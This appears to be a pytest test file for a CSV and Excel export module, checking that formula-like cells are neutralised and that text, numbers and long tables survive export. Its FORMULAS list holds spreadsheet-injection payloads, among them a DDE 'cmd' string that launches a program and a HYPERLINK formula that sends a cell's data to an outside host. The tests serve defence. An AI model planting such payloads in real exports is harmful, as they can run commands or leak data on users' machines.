"""Tables as CSV and as workbooks: nothing is lost, and nothing becomes a formula."""

import csv
import gc
import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from banker.books.export import Column
from banker.web import sheet_csv
from banker.web.sheet_csv import CsvSheet, guarded
from banker.web.sheet_xlsx import MOST_CHARACTERS, XlsxSheet

COLUMNS = (
    Column("id", "figure"),
    Column("amount", "money"),
    Column("note", "text"),
    Column("number", "word"),
)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1",
    "-1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\r=1",
    "\rx",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "﹦1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    "'=1",
    '" =1"',
    "“=1”",
    "\x01=1",
]
HARMLESS = [
    "",
    "Aung",
    "a=b",
    "123 500\n456=10",
    "1-2",
    "a;b",
    "x'y",
    "'quoted'",
    "ကို",
    "a@b.c",
    "…",
]
NASTY = ["a,b", 'say "no"', "two\r\nlines", "two\nlines", "a\rb", " kept ", "<b>&amp;</b>", "]]>",
         "_x0041_", "😀", "\u2028", "a\tb", "it's"]  # fmt: skip


def _csv(*rows: list[str | None]) -> bytes:
    sheet = CsvSheet("notes", COLUMNS)
    return sheet.head() + sheet.rows(rows) + sheet.foot()


def _xlsx(*rows: list[str | None]) -> bytes:
    sheet = XlsxSheet("notes", COLUMNS)
    return sheet.head() + sheet.rows(rows) + sheet.foot()


def _unguarded(cell: str) -> str:
    """What a guarded text was: an apostrophe before a risky beginning is the house's own."""
    return "".join(
        letter
        for at, letter in enumerate(cell)
        if letter != "'" or not _is_beginning(cell, at) or not _is_risky(cell, at + 1)
    )


def _is_beginning(cell: str, at: int) -> bool:
    return at == 0 or cell[at - 1] in ";\t\r\n"


def _is_risky(cell: str, at: int) -> bool:
    before = "" if at == 1 else ";"
    return sheet_csv._risky.match(before + cell[at:], len(before)) is not None


def _texts(content: bytes, sheet: int = 0) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [row[2].value for row in book.worksheets[sheet].iter_rows(min_row=2)]


def _xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert book.testzip() is None
        return book.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_in_csv(text: str) -> None:
    assert guarded(text).startswith("'")
    [_, row] = csv.reader(io.StringIO(_csv(["1", "-5.00", text, "007"]).decode("utf-8-sig"), ""))
    assert row == ["1", "-5.00", guarded(text), "007"]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_was_written(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", ["a;=1+1", "a\n+1", "123 500\r\n@x", "a\t-1", 'a; "=1'])
def test_a_cell_that_another_separator_would_make_is_no_formula_either(text: str) -> None:
    cells = re.split("[;\t\r\n]+", guarded(text))
    assert [guarded(cell) for cell in cells] != re.split("[;\t\r\n]+", text)
    assert all(re.match(r"[\s\"]*[=+\-@]", cell) is None for cell in cells)


@given(st.text(alphabet=st.sampled_from("=+-@＝'\"; \t\r\n1a\u200b"), max_size=12))
def test_the_apostrophes_can_be_taken_off_again(text: str) -> None:
    assert _unguarded(guarded(text)) == text


def test_csv_is_as_the_rfc_says() -> None:
    content = _csv(["1", "1500.00", 'a "b", c\nd', None])
    assert content == (b"\xef\xbb\xbfid,amount,note,number\r\n" + b'1,1500.00,"a ""b"", c\nd",\r\n')


@pytest.mark.parametrize("text", [*NASTY, *HARMLESS])
def test_every_text_comes_back_from_csv(text: str) -> None:
    content = _csv(["1", None, text, "000"]).decode("utf-8-sig")
    assert [*csv.reader(io.StringIO(content, newline=""))][1] == ["1", "", text, "000"]


@pytest.mark.parametrize("text", [*NASTY, *FORMULAS, *HARMLESS])
def test_every_text_comes_back_from_a_workbook_as_a_text(text: str) -> None:
    content = _xlsx(["1", None, text, "000"])
    [found] = _texts(content)
    expected = text.replace("_x0041_", "_x005F_x0041_").replace("\x01", "\ufffd")
    assert (found or "") == expected
    assert "<f>" not in _xml(content)


def test_what_xml_forbids_is_replaced() -> None:
    forbidden = "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF]))
    assert _texts(_xlsx(["1", None, f"a{forbidden}b", None])) == [f"a{'�' * len(forbidden)}b"]


def test_a_number_of_excels_is_exact_or_a_text() -> None:
    content = _xlsx(
        ["999999999999999", "-1500.00", "x", "007"],
        ["9007199254740993", "9999999999999.99", "x", "7"],
        ["0", "12345678901234.56", "x", "123"],
    )
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["notes"]
    [head, first, second, third] = book.worksheets[0].iter_rows()
    assert [cell.value for cell in head] == ["id", "amount", "note", "number"]
    assert [cell.value for cell in first] == [999999999999999, -1500, "x", "007"]
    assert (first[1].number_format, first[0].number_format) == ("0.00", "General")
    assert [cell.value for cell in second] == ["9007199254740993", 9999999999999.99, "x", "7"]
    assert [cell.value for cell in third] == [0, "12345678901234.56", "x", "123"]


def test_a_table_too_long_for_a_sheet_goes_on_in_the_next() -> None:
    sheet = XlsxSheet("notes", COLUMNS, most_rows=4)
    rows = [[str(number), None, f"row {number}", None] for number in range(7)]
    content = sheet.head() + sheet.rows(rows[:2]) + sheet.rows(rows[2:]) + sheet.foot()
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["notes", "notes 2", "notes 3"]
    found = [[row[0].value for row in one.iter_rows()] for one in book.worksheets]
    assert found == [["id", 0, 1, 2], ["id", 3, 4, 5], ["id", 6]]


@pytest.mark.parametrize("letter", ["x", "é", "😀"])
def test_a_text_too_long_for_a_cell_is_cut(letter: str) -> None:
    fits = letter * (MOST_CHARACTERS // (2 if letter == "😀" else 1))
    [kept, cut] = _texts(_xlsx(["1", None, fits, None], ["2", None, fits + letter, None]))
    assert kept == fits
    assert isinstance(cut, str)
    assert cut.endswith(letter + "…")
    assert len(cut.encode("utf-16-le")) // 2 <= MOST_CHARACTERS


def test_a_workbook_without_rows_can_be_read() -> None:
    assert _texts(_xlsx()) == []


def test_a_workbook_that_is_broken_off_goes_without_a_word() -> None:
    sheet = XlsxSheet("notes", COLUMNS)
    sheet.head()
    sheet.itself = sheet  # type: ignore[attr-defined]
    del sheet
    gc.collect()


@pytest.mark.parametrize("form", [CsvSheet, XlsxSheet])
def test_nothing_of_a_table_is_kept(form: type[CsvSheet] | type[XlsxSheet]) -> None:
    sheet = form("notes", COLUMNS)
    rows = [[str(number), "1500.00", f"row {number}", "007"] for number in range(500)]
    sheet.head()
    sheet.rows(rows)
    tracemalloc.start()
    for _ in range(100):
        sheet.rows(rows)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    sheet.foot()
    assert peak < 1_000_000
